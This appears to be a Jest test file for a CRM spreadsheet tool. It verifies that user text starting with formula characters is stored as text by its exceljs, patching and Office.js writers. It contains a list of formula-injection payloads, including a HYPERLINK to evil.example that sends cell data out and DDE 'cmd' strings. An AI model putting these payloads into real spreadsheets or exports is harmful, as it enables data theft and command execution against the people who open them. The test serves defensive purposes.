// Formula injection (issue 8, "Privacy and security"): every value the product writes that starts with
// `=`, `+`, `-`, `@`, tab or CR is stored as text, never as a formula. The values come from user text — customer,
// industry, owner and size names, churn reasons, plan tasks, sheet names, the cells findings quote — and are
// written into the findings sheet 「CRM问题清单」, the review sheets 「CRM复盘-…」 (and the PivotTables' staging
// data), the owned ◆ columns, masked contact cells and the rules sheet.
// - The command line (exceljs or the patching writer, whichever `crm` uses): the written .xlsx is read back with
//   JSZip and every such cell must be a string cell (`t="s"`, `t="inlineStr"` or `t="str"`) without `<f>`.
// - The exceljs writer directly, with findings whose every text field is a payload.
// - The Office.js adapter on the fake Excel: every raw string it writes that starts with one of those
//   characters must carry the apostrophe prefix or go into a cell already formatted as text ("@") — the two ways
//   Excel keeps typed input as text — and the stored cell must hold the payload as text, with no formula.
import ExcelJS from "exceljs";
import { mkdtempSync, rmSync } from "fs";
import { tmpdir } from "os";
import { join } from "path";
import { buildReview, isOwnedSheet, runPipeline, type CellValue, type Finding, type WorkbookModel } from "../../src/core";
import { applyTags, buildReviewSheets, maskPhoneNumbers, useHost, writeRule } from "../../src/excel/actions";
import { OfficeBook } from "../../src/excel/office-book";
import { ExcelJsBook } from "../../src/xlsx/exceljs-book";
import { main, type CliIO } from "../../src/cli/cli";
import { writeModelXlsx } from "../../src/xlsx/model-xlsx";
import { FINDINGS_SHEET, looksLikeFormula, OWNED_MARK } from "../../src/workbook/owned";
import { createFakeExcel, FakeRange, parseRef, colName, type FakeExcel } from "../excel/fake-excel";
import { specOf } from "../excel/spec";
import { recordReliability } from "../reliability";
import { isTextCell, readXlsxCells, type XmlCell } from "./xlsx-cells";

jest.setTimeout(120_000);

const AS_OF = "2024-11-26";

/** The known payloads (OWASP CSV/formula injection), and the brief's. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
] as const;

/** Payloads a sheet name may hold (no / \ ? * [ ] :, at most 31 characters). */
const SHEET_PAYLOADS = ["=1+1", "+1+1", "-2+3", "@SUM(1+1)"] as const;

const DANGER = /^[=+\-@\t\r]/;

const figures = { cells: 0, bad: 0, payloads: new Set<string>() };

function judge(ok: boolean): boolean {
  figures.cells++;
  if (!ok) figures.bad++;
  return ok;
}

afterAll(() => {
  recordReliability("formula-injection", {
    group: "privacy and security",
    what: `公式注入载荷（${PAYLOADS.length} 种，写入的单元格） formula-injection payload cells written (exceljs, patching writer, Office.js)`,
    tried: figures.cells,
    failed: figures.bad,
    where: "test/security/formula-injection.test.ts",
  });
});

// ── a workbook whose user text starts with the payloads ──

const P = (i: number) => PAYLOADS[i % PAYLOADS.length];

function payloadModel(): WorkbookModel {
  const header = ["客户编号", "客户名称", "联系人", "联系方式", "行业", "企业规模", "首次触达时间", "当前周期阶段", "客户状态标签", "负责人", "年度采购总额(万元)", "合作起始时间", "最近下单时间", "流失原因", "终止合作日期", "备注"];
  const rows: CellValue[][] = [header];
  for (let i = 0; i < 14; i++) {
    const churned = i % 3 === 0;
    rows.push([
      `C${i + 1}`, P(i), `王${i}`, `${P(i + 1).slice(0, 1)}联系 138${String(10_000_000 + i).slice(0, 8)}`, P(i + 2), P(i + 3), "2024-01-10", P(i + 4), P(i + 5), P(i + 6),
      150 + i, "2022-01-01", "2024-10-01", churned ? P(i) : null, churned ? "2024-09-01" : null, P(i + 1),
    ]);
  }
  return {
    sheets: [
      { name: "客户", cells: rows },
      { name: SHEET_PAYLOADS[0], cells: [["客户名称", "下单日期", "金额"], ...PAYLOADS.map((p, i) => [p, "2024-10-01", i % 2 ? -5 : p])] },
      { name: SHEET_PAYLOADS[1], cells: [["任务", "客户编号", "负责人", "创建时间", "截止时间", "状态", "流失原因"], ...PAYLOADS.map((p, i) => [p, `C${i + 1}`, p, "2024-10-01", p, p, p])] },
      { name: SHEET_PAYLOADS[2], cells: [["任务名称", "策略关联", "执行负责人", "开始时间", "截止时间", "状态"], ...PAYLOADS.map((p) => [p, p, p, "2024-10-01", "2024-10-31", p])] },
      { name: SHEET_PAYLOADS[3], cells: [["客户编号", "维护时间", "维护方式", "维护内容", "客户反馈"], ...PAYLOADS.map((p, i) => [`C${i + 1}`, p, p, p, p])] },
    ],
  };
}

// ── the command line ──

async function crm(argv: string[]): Promise<{ code: number; stderr: string }> {
  const err: string[] = [];
  const io: CliIO = { stdout: () => undefined, stderr: (s) => void err.push(s), stderrTTY: false, stdoutTTY: false, env: { LANG: "zh_CN.UTF-8" }, today: () => AS_OF };
  return { code: await main(argv, io), stderr: err.join("") };
}

/** Cells the product wrote: its own sheets, the ◆ columns of the customers sheet (header row 1 here). */
function productCells(cells: Map<string, XmlCell[]>): XmlCell[] {
  const out: XmlCell[] = [];
  for (const [sheet, list] of cells) {
    if (isOwnedSheet(sheet)) {
      out.push(...list);
      continue;
    }
    const ownedCols = new Set(list.filter((c) => /^[A-Z]+1$/.test(c.ref) && c.text.startsWith(OWNED_MARK)).map((c) => c.ref.replace(/\d+$/, "")));
    out.push(...list.filter((c) => ownedCols.has(c.ref.replace(/\d+$/, ""))));
  }
  return out;
}

/** The product's only formulas: the findings sheet's internal links and nothing else. */
const isOwnLink = (c: XmlCell) => c.sheet === FINDINGS_SHEET && /^C\d+$/.test(c.ref) && /^HYPERLINK\("#'[^"]*'![A-Z]+\d+","[^"]*"\)$/.test(c.formula ?? "");

/** Every product cell whose text starts with a formula character is a text cell; returns what was judged. */
function expectTextCells(label: string, cells: XmlCell[]): XmlCell[] {
  const risky = cells.filter((c) => DANGER.test(c.text) && !isOwnLink(c));
  const bad = risky.filter((c) => !judge(isTextCell(c))).map((c) => `${c.sheet}!${c.ref} ${c.xml}`);
  expect({ label, bad }).toEqual({ label, bad: [] });
  const formulas = cells.filter((c) => c.formula !== null && !isOwnLink(c)).map((c) => `${c.sheet}!${c.ref} ${c.xml}`);
  expect({ label, formulas }).toEqual({ label, formulas: [] });
  for (const c of risky) for (const p of PAYLOADS) if (c.text.startsWith(p) || c.text === p.trim()) figures.payloads.add(p);
  return risky;
}

describe("crm writes the payloads as text", () => {
  let root: string;
  let book: string;
  beforeAll(async () => {
    root = mkdtempSync(join(tmpdir(), "crm-inject-"));
    book = join(root, "注入.xlsx");
    await writeModelXlsx(payloadModel(), book);
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  test("the input really starts cells with every payload (and sheet names with formula characters)", async () => {
    const cells = await readXlsxCells(book);
    const texts = new Set([...cells.values()].flat().map((c) => c.text));
    for (const p of PAYLOADS) expect([JSON.stringify(p), texts.has(p)]).toEqual([JSON.stringify(p), true]);
    expect([...cells.keys()]).toEqual(["客户", ...SHEET_PAYLOADS]);
  });

  test("apply: the ◆ columns and the findings sheet (sheet names, quoted values) hold no formula but the links", async () => {
    const out = join(root, "apply.xlsx");
    expect((await crm(["apply", book, "--out", out])).code).toBe(1);
    const cells = await readXlsxCells(out);
    const product = productCells(cells);
    expect(product.filter((c) => c.sheet === FINDINGS_SHEET).length).toBeGreaterThan(20);
    const risky = expectTextCells("apply", product);
    // The sheet names starting with = + - @ are in the findings sheet's sheet column, as text.
    const sheetColumn = new Set(risky.filter((c) => c.sheet === FINDINGS_SHEET && /^D\d+$/.test(c.ref)).map((c) => c.text));
    for (const s of SHEET_PAYLOADS) expect([s, sheetColumn.has(s)]).toEqual([s, true]);
    // The links point inside the book, to sheets named like formulas too.
    expect(product.filter(isOwnLink).length).toBeGreaterThan(20);
  });

  test("review: industries, owners, sizes, churn reasons and plan tasks that start with a payload stay text", async () => {
    const out = join(root, "review.xlsx");
    expect((await crm(["review", book, "--out", out])).code).toBe(1);
    const product = productCells(await readXlsxCells(out));
    const risky = expectTextCells("review", product);
    // (The engine reads names trimmed: "\t=1+1" is the industry "=1+1", still a formula-looking text.)
    const texts = new Set(risky.map((c) => c.text));
    for (const p of PAYLOADS) expect([JSON.stringify(p), texts.has(p) || texts.has(p.trim())]).toEqual([JSON.stringify(p), true]);
  });

  test("mask: a masked contact cell that starts with a formula character stays text", async () => {
    const out = join(root, "mask.xlsx");
    expect((await crm(["mask", book, "--out", out])).code).toBe(0);
    const cust = (await readXlsxCells(out)).get("客户")!;
    const contacts = cust.filter((c) => /^D([2-9]|1\d)$/.test(c.ref));
    expect(contacts.length).toBe(14);
    for (const c of contacts) expect(c.text).toMatch(/138\*{4}\d{4}$/); // masked
    const risky = contacts.filter((c) => DANGER.test(c.text));
    expect(risky.length).toBeGreaterThan(5);
    for (const c of risky) expect([c.ref, judge(isTextCell(c))]).toEqual([c.ref, true]);
  });
});

// ── the exceljs writer on its own, findings whose every field is a payload ──

function hostileFindings(): Finding[] {
  return PAYLOADS.map((p, i) => ({
    code: "BAD_ENUM", severity: "error", sheet: SHEET_PAYLOADS[i % SHEET_PAYLOADS.length], row: i + 2, column: p,
    address: `'${SHEET_PAYLOADS[i % SHEET_PAYLOADS.length]}'!B${i + 2}`, message: p, messageEn: p, fix: p, fixEn: p,
  }));
}

describe("the exceljs writer (src/xlsx/exceljs-book.ts)", () => {
  test("findings sheet and review sheets: every payload field is a string cell", async () => {
    const model = payloadModel();
    const wb = new ExcelJS.Workbook();
    for (const s of model.sheets) wb.addWorksheet(s.name).addRows(s.cells.map((r) => r.map((v) => (v === undefined ? null : v))) as unknown[][]);
    const result = runPipeline(model, AS_OF);
    result.findings = hostileFindings();
    const port = new ExcelJsBook(wb);
    await port.applyResults(result);
    await port.writeReview(buildReview(runPipeline(model, AS_OF)));
    const root = mkdtempSync(join(tmpdir(), "crm-inject-exceljs-"));
    try {
      const file = join(root, "out.xlsx");
      await wb.xlsx.writeFile(file);
      const product = productCells(await readXlsxCells(file));
      const risky = expectTextCells("exceljs", product);
      // Each of the 7 findings has 7 payload fields (column, message, messageEn, fix, fixEn, and sheet/address).
      const findingCells = risky.filter((c) => c.sheet === FINDINGS_SHEET);
      expect(findingCells.length).toBeGreaterThanOrEqual(PAYLOADS.length * 5);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

// ── the Office.js adapter on the fake Excel ──

interface RawWrite {
  sheet: string;
  ref: string;
  raw: string;
  /** The cell's number format when the write was applied. */
  format: string | undefined;
  prop: "values" | "formulas";
}

describe("the Office.js adapter (src/excel/office-book.ts) on the fake Excel", () => {
  let fake: FakeExcel;
  let restore: (() => void) | undefined;
  let writes: RawWrite[] = [];
  let unpatch: (() => void) | undefined;

  /** Records every string the adapter writes through Range.values / Range.formulas, with the cell's format at that moment. */
  function recordWrites(): () => void {
    const props = (FakeRange as unknown as { meta: { props: Record<string, { set?: (self: unknown, e: unknown, v: unknown) => void }> } }).meta.props;
    const saved: [string, (self: unknown, e: unknown, v: unknown) => void][] = [];
    for (const prop of ["values", "formulas"] as const) {
      const orig = props[prop].set!;
      saved.push([prop, orig]);
      props[prop].set = (self, e, v) => {
        const ent = e as { sheet: { name: string; nf: (string | undefined)[][] }; rect: { r0: number; c0: number } };
        const grid = Array.isArray(v) ? (v as unknown[][]) : [[v]];
        grid.forEach((row, i) =>
          (Array.isArray(row) ? row : [row]).forEach((x, j) => {
            if (typeof x !== "string") return;
            const r = ent.rect.r0 + i;
            const c = ent.rect.c0 + j;
            writes.push({ sheet: ent.sheet.name, ref: `${colName(c)}${r + 1}`, raw: x, format: ent.sheet.nf[r]?.[c], prop });
          }),
        );
        orig(self, e, v);
      };
    }
    return () => {
      for (const [prop, orig] of saved) props[prop].set = orig;
    };
  }

  function open(model: WorkbookModel): void {
    fake = createFakeExcel(specOf(model));
    restore = fake.install();
    useHost({ run: (b) => fake.Excel.run(b as never) as never, isSetSupported: (s, v) => fake.Office.context.requirements.isSetSupported(s, v) });
    writes = [];
    unpatch = recordWrites();
  }
  afterEach(() => {
    unpatch?.();
    restore?.();
  });

  /** An intended formula: the findings sheet's internal link in column C. */
  const ownLink = (w: RawWrite) => w.sheet === FINDINGS_SHEET && /^C\d+$/.test(w.ref) && /^=HYPERLINK\("#'[^"]*'![A-Z]+\d+","[^"]*"\)$/.test(w.raw);

  /**
   * Every raw string starting with a formula character went into a text-formatted cell, or was sent with the
   * apostrophe (then it does not start with one); the stored cell holds the payload as text, no formula.
   */
  function expectGuarded(label: string): RawWrite[] {
    const risky = writes.filter((w) => DANGER.test(w.raw) && !ownLink(w));
    // What Excel keeps: apostrophe-guarded strings and "@" cells hold the text, never a formula.
    const guardedByQuote = writes.filter((w) => w.raw.startsWith("'") && DANGER.test(w.raw.slice(1)));
    const judged = [...risky, ...guardedByQuote];
    const bad: string[] = [];
    for (const w of judged) {
      const cell = fake.book.cell(w.sheet, w.ref);
      const expected = w.raw.startsWith("'") && w.format !== "@" ? w.raw.slice(1) : w.raw;
      const guarded = w.format === "@" || w.raw.startsWith("'");
      const stored = cell.formula === null && cell.value === expected;
      if (!judge(guarded && stored)) bad.push(`${w.sheet}!${w.ref} ${JSON.stringify(w.raw)} (format ${w.format ?? "General"}) → ${JSON.stringify({ value: cell.value, formula: cell.formula })}`);
      for (const p of PAYLOADS) if (expected.startsWith(p) || expected === p.trim()) figures.payloads.add(p);
    }
    expect({ label, bad }).toEqual({ label, bad: [] });
    return judged;
  }

  /** Every formula on the product's sheets is one of its own links. */
  function expectNoFormulas(sheets: string[]): void {
    for (const s of sheets) {
      const used = fake.book.usedRange(s);
      if (!used) continue;
      const ref = used.slice(used.lastIndexOf("!") + 1);
      const rect = parseRef(ref)!;
      // The stored formula of each cell (Range.formulas, like Excel's, also returns constants as typed).
      const formulas: { at: string; f: string }[] = [];
      for (let r = rect.r0; r <= rect.r1; r++) {
        for (let c = rect.c0; c <= rect.c1; c++) {
          const f = fake.book.cell(s, `${colName(c)}${r + 1}`).formula;
          if (f !== null) formulas.push({ at: `${colName(c)}${r + 1}`, f });
        }
      }
      const foreign = formulas.filter((x) => !(s === FINDINGS_SHEET && /^C\d+$/.test(x.at) && /^=HYPERLINK\("#/.test(String(x.f))));
      expect({ sheet: s, foreign }).toEqual({ sheet: s, foreign: [] });
    }
  }

  test("applyTags: the ◆ columns and the findings sheet", async () => {
    open(payloadModel());
    await applyTags({ asOf: AS_OF });
    const judged = expectGuarded("applyTags");
    expect(judged.some((w) => w.sheet === FINDINGS_SHEET)).toBe(true);
    expectNoFormulas([FINDINGS_SHEET]);
  });

  test("buildReview: review sheets, the staging table of the PivotTables and the Gantt data", async () => {
    open(payloadModel());
    const out = await buildReviewSheets({ asOf: AS_OF });
    const judged = expectGuarded("buildReview");
    const stored = new Set(judged.map((w) => fake.book.cell(w.sheet, w.ref).value));
    for (const p of PAYLOADS) expect([JSON.stringify(p), stored.has(p) || stored.has(p.trim())]).toEqual([JSON.stringify(p), true]);
    expect(judged.some((w) => w.sheet.endsWith("数据"))).toBe(true); // the staging table
    expectNoFormulas(out.sheets);
  });

  test("the findings sheet with findings whose every field is a payload", async () => {
    open(payloadModel());
    await fake.Excel.run(async (ctx) => {
      const book = new OfficeBook(ctx as never, { chunkRows: 3, pivots: true, mergedAreas: true });
      await book.writeFindingsSheet(hostileFindings());
    });
    const judged = expectGuarded("writeFindingsSheet");
    expect(judged.length).toBeGreaterThanOrEqual(PAYLOADS.length * 5);
    expectNoFormulas([FINDINGS_SHEET]);
  });

  test("mask phone numbers: a masked contact that starts with a formula character is written as text", async () => {
    open(payloadModel());
    const m = await maskPhoneNumbers({ asOf: AS_OF });
    expect(m.cells).toBe(14);
    const judged = expectGuarded("maskPhones");
    expect(judged.length).toBeGreaterThan(5);
  });

  test("writeRule: a rule value typed as a payload is stored as text in CRM规则", async () => {
    open(payloadModel());
    for (const p of PAYLOADS) {
      writes = [];
      await writeRule("stage.churnDays", p);
      const judged = expectGuarded(`writeRule ${JSON.stringify(p)}`);
      expect(judged.map((w) => fake.book.cell(w.sheet, w.ref).value)).toEqual([p]);
    }
  });
});

describe("the guard itself (src/workbook/owned.ts looksLikeFormula)", () => {
  test("every payload is recognised, ordinary text is not", () => {
    for (const p of [...PAYLOADS, ...SHEET_PAYLOADS]) expect([JSON.stringify(p), looksLikeFormula(p)]).toEqual([JSON.stringify(p), true]);
    for (const s of ["客户", "138****5678", "'=1", " =1", "CRM2024001"]) expect([s, looksLikeFormula(s)]).toEqual([s, false]);
  });

  test("every payload was seen in a written cell", () => {
    // Runs last in this file: the tests above put each payload through at least one writer.
    expect([...figures.payloads].sort()).toEqual([...PAYLOADS].sort());
  });
});
